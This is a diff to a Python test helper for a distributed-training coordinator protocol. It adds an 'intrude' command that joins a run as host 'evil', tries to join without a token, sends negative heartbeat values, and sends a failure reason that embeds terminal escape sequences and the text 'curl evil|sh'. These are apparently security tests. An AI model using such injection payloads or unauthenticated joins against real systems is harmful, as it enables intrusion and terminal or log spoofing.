@@ -16,6 +16,12 @@ protocol version 4). Every loop is bounded in count and time.
                                     sends a heartbeat every 0.3 s, for SECS after the
                                     first Hello; prints "joined COUNT" once all joined,
                                     then "assigned A aborted B closed C" at the end
+  intrude PORT RUN_ID BEATS TOKEN   joins RUN_ID (min=max=2) as host "evil", without a
+                                    token when TOKEN is "-": prints "refused: REASON",
+                                    or "assigned node N master ADDR:PORT"; then sends BEATS
+                                    heartbeats with a silence of -1 ms and a worker failure
+                                    whose reason holds terminal escape sequences, and
+                                    prints "closed" when the coordinator closes
 """
 import hashlib
 import hmac
@@ -170,6 +176,75 @@ def beat(port, token, run_id, count, secs):
     return 0
 
 
+WORKER_FAILED, REFUSED = 7, 11
+EVIL_REASON = b"\x1b[2J\x1b[31mrun 'curl evil|sh'\x1b[0m"
+
+
+def intrude(port, run_id, beats, token):
+    conn = connect(port)
+    if token:
+        err = join_frames(token, run_id, b"evil", 2, 2, conn)
+        if err:
+            print(err, flush=True)
+            return 1
+    else:
+        conn.sendall(hello(run_id.decode(), 2, 2))
+        mtype, body = read_frame(conn)
+        if mtype == REFUSED:
+            print("refused: " + strings(body, 1)[0].decode(errors="replace"), flush=True)
+            return 0
+        if mtype != CHALLENGE:
+            print("no challenge: type %s" % mtype, flush=True)
+            return 1
+        join = (s(run_id) + s(b"evil") + struct.pack(">I", 1) + s(b"127.0.0.1") + i(1) + i(0) + i(-1) +
+                i(-1) + i(0) + struct.pack(">I", 0) + i(0))
+        conn.sendall(frame(JOIN, join))
+    deadline = time.monotonic() + 30
+    conn.settimeout(0.3)
+    while True:
+        if time.monotonic() > deadline:
+            print("no assignment within 30s", flush=True)
+            return 1
+        try:
+            mtype, body = read_frame(conn)
+        except socket.timeout:
+            conn.sendall(frame(HEARTBEAT, i(0)))
+            continue
+        if mtype is None:
+            print("closed before an assignment", flush=True)
+            return 1
+        if mtype == REFUSED:
+            print("refused: " + strings(body, 1)[0].decode(errors="replace"), flush=True)
+            return 0
+        if mtype == ASSIGNMENT:
+            break
+    generation, node_rank = struct.unpack(">ii", body[:8])
+    pos, count = 12, struct.unpack(">I", body[8:12])[0]
+    for _ in range(count):  # host, addr, nproc, task ports
+        for _ in range(2):
+            pos += 4 + struct.unpack(">I", body[pos:pos + 4])[0]
+        pos += 4
+        pos += 4 + 4 * struct.unpack(">I", body[pos:pos + 4])[0]
+    addr_len = struct.unpack(">I", body[pos:pos + 4])[0]
+    master = body[pos + 4:pos + 4 + addr_len].decode(errors="replace")
+    pos += 4 + addr_len
+    master_port = struct.unpack(">i", body[pos:pos + 4])[0]
+    pos += 4
+    pos += 4 + struct.unpack(">I", body[pos:pos + 4])[0]  # run id
+    rank_offset = struct.unpack(">i", body[pos + 8:pos + 12])[0]  # after restart_count, nnodes
+    print("assigned node %d master %s:%d" % (node_rank, master, master_port), flush=True)
+    conn.settimeout(10)
+    conn.sendall(frame(HEARTBEAT, i(-1)) * beats)
+    conn.sendall(frame(WORKER_FAILED, i(generation) + i(node_rank) + i(rank_offset) + i(3) + s(EVIL_REASON)))
+    try:
+        while conn.recv(65536):
+            pass
+    except OSError:
+        pass
+    print("closed", flush=True)
+    return 0
+
+
 def main():
     cmd, port = sys.argv[1], int(sys.argv[2])
     if cmd == "junk":
@@ -203,6 +278,9 @@ def main():
         sys.stdin.read()
     elif cmd == "beat":
         return beat(port, sys.argv[3].encode(), sys.argv[4].encode(), int(sys.argv[5]), float(sys.argv[6]))
+    elif cmd == "intrude":
+        token = b"" if sys.argv[5] == "-" else sys.argv[5].encode()
+        return intrude(port, sys.argv[3].encode(), int(sys.argv[4]), token)
     elif cmd == "join-leave":
         token, run_id = sys.argv[3].encode(), sys.argv[4].encode()
         conn = connect(port)
